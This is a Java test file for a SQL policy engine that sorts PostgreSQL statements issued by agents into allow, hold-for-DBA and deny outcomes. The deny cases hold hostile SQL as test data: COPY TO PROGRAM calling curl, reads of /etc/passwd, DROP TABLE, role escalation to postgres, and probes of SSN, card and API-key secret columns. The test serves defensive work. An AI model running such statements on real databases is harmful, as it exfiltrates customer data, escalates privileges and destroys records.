// SPDX-License-Identifier: Apache-2.0
package dev.portcullis.engine.decisions;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.contracts.decision.Decision.Outcome;
import dev.portcullis.sql.CatalogSnapshot;
import dev.portcullis.sql.SqlAnalyzer;
import dev.portcullis.sql.SqlParser;
import dev.portcullis.sql.SqlParserLimits;
import dev.portcullis.sql.SqlRefused;
import dev.portcullis.testing.Requests;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// The policies of the local run on real SQL, with the facts that PostgreSQL's own parser finds.
class ShippedPoliciesOnSqlTest {

    private static final PolicySet SET = ShippedPolicies.read();
    private static final SqlParser PARSER = new SqlParser(SqlParserLimits.defaults());
    private static final SqlAnalyzer ANALYZER = new SqlAnalyzer(PARSER);
    private static final CatalogSnapshot CATALOG = catalog();

    @AfterAll
    static void closeParser() {
        PARSER.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT 1",
                "SELECT * FROM customers LIMIT 3",
                "SELECT id, name FROM customers WHERE email = 'ada@example.com'",
                "SELECT email, phone, ssn, card_number FROM customers ORDER BY id",
                "SELECT * FROM customer_orders WHERE order_id = 7",
                "SELECT order_total(7)",
                "SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer_id",
                "SELECT label, secret FROM api_keys",
                "TABLE orders",
                "BEGIN",
                "COMMIT",
                "SHOW server_version",
                "SET application_name = 'report'",
                "SET statement_timeout = 5000",
                "EXPLAIN SELECT * FROM orders",
                "COPY (SELECT id, status FROM orders) TO STDOUT",
                "PREPARE p AS SELECT id FROM orders WHERE id = $1",
                "BEGIN; SELECT 1; COMMIT",
                "SELECT relname FROM pg_catalog.pg_class",
                ""
            })
    void isAllowed(String sql) {
        assertThat(outcome(sql)).isEqualTo(Outcome.ALLOW);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "UPDATE orders SET status = 'paid' WHERE id = 7",
                "DELETE FROM orders WHERE id = 7",
                "INSERT INTO orders (customer_id, status, total) VALUES (1, 'new', 3)",
                "INSERT INTO orders (customer_id, status, total) VALUES (1, 'new', 3) RETURNING id",
                "MERGE INTO orders o USING payments p ON p.order_id = o.id WHEN MATCHED THEN UPDATE SET status = 'paid'",
                "WITH gone AS (DELETE FROM orders WHERE id = 7 RETURNING id) SELECT * FROM gone",
                "EXPLAIN ANALYZE UPDATE orders SET status = 'paid' WHERE id = 7",
                "SELECT * FROM orders WHERE id = 7 FOR UPDATE",
                "SELECT 1; UPDATE orders SET status = 'paid' WHERE id = 7",
                "COPY orders (customer_id, status, total) FROM STDIN",
                "UPDATE customers SET phone = '1' WHERE id = 7"
            })
    void waitsForADba(String sql) {
        assertThat(outcome(sql)).isEqualTo(Outcome.HOLD);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DROP TABLE customers",
                "TRUNCATE orders",
                "ALTER TABLE orders ADD COLUMN x int",
                "CREATE TABLE x (a int)",
                "CREATE TABLE x AS SELECT * FROM customers",
                "SELECT * INTO x FROM customers",
                "CREATE TEMP TABLE x (a int)",
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1",
                "GRANT SELECT ON customers TO public",
                "REVOKE SELECT ON customers FROM orders_gateway",
                "COPY customers TO PROGRAM 'curl example.com'",
                "COPY customers TO '/tmp/x'",
                "COPY orders FROM PROGRAM 'cat /etc/passwd'",
                "DO $$ BEGIN DELETE FROM orders; END $$",
                "CALL anything()",
                "VACUUM",
                "LOCK TABLE orders",
                "UPDATE orders SET status = 'paid'",
                "DELETE FROM orders",
                "WITH gone AS (DELETE FROM orders RETURNING id) SELECT * FROM gone",
                "EXPLAIN ANALYZE DELETE FROM orders",
                "SELECT 1; DROP TABLE customers",
                "SET ROLE postgres",
                "SET search_path = evil",
                "SET SESSION AUTHORIZATION postgres",
                "SELECT set_config('role', 'postgres', false)",
                "RESET ALL",
                "SELECT pg_read_file('/etc/passwd')",
                "SELECT query_to_xml('DELETE FROM orders', true, true, '')",
                "SELECT pg_sleep(100)",
                "SELECT unheard_of(1)",
                "LISTEN x",
                "NOTIFY x, 'y'",
                "PREPARE TRANSACTION 'x'",
                "SELECT * FROM pg_stats",
                "SELECT * FROM pg_catalog.pg_stat_activity",
                "SELECT id FROM customers WHERE ssn LIKE '1%'",
                "SELECT id FROM customers ORDER BY card_number",
                "SELECT count(*) FROM api_keys GROUP BY secret",
                "SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM api_keys k WHERE k.secret = c.name)",
                "UPDATE orders SET status = 'x' WHERE customer_id = (SELECT id FROM customers WHERE ssn = '1')"
            })
    void isDenied(String sql) {
        assertThat(outcome(sql)).isEqualTo(Outcome.DENY);
    }

    private static Outcome outcome(String sql) {
        try {
            var facts = ANALYZER.analyze(sql, CATALOG).facts();
            return Judge.decide(SET, Requests.sql(facts, "agents"), Judge.Trace.NONE)
                    .outcome();
        } catch (SqlRefused e) {
            throw new AssertionError(sql, e);
        }
    }

    private static CatalogSnapshot catalog() {
        CatalogSnapshot.Builder catalog = CatalogSnapshot.builder(List.of("public"));
        table(catalog, 1, "customers", null, "id", "name", "email", "phone", "ssn", "card_number", "created_at");
        table(catalog, 2, "orders", null, "id", "customer_id", "status", "total", "created_at");
        table(catalog, 3, "payments", null, "id", "order_id", "amount", "method", "card_last4", "paid_at");
        table(catalog, 4, "api_keys", null, "id", "customer_id", "label", "secret", "created_at");
        table(
                catalog,
                5,
                "customer_orders",
                "SELECT c.id AS customer_id, c.name, c.email, o.id AS order_id"
                        + " FROM public.customers c JOIN public.orders o ON o.customer_id = c.id",
                "customer_id",
                "name",
                "email",
                "order_id");
        catalog.function("public", "order_total", 1, 1, 's');
        catalog.relation(100, "pg_catalog", "pg_stats", 'v', "ignored");
        catalog.column(100, "most_common_vals", 1, 25, false);
        catalog.relation(101, "pg_catalog", "pg_stat_activity", 'v', "ignored");
        catalog.column(101, "query", 1, 25, false);
        catalog.relation(102, "pg_catalog", "pg_class", 'r', null);
        catalog.column(102, "relname", 1, 25, false);
        SET.classifications("orders")
                .columns()
                .forEach(c -> catalog.classify(c.schema(), c.relation(), c.column(), c.tag()));
        return catalog.build();
    }

    private static void table(
            CatalogSnapshot.Builder catalog, long oid, String name, String definition, String... columns) {
        catalog.relation(oid, "public", name, definition == null ? 'r' : 'v', definition);
        for (int i = 0; i < columns.length; i++) {
            catalog.column(oid, columns[i], i + 1, 25, false);
        }
    }
}
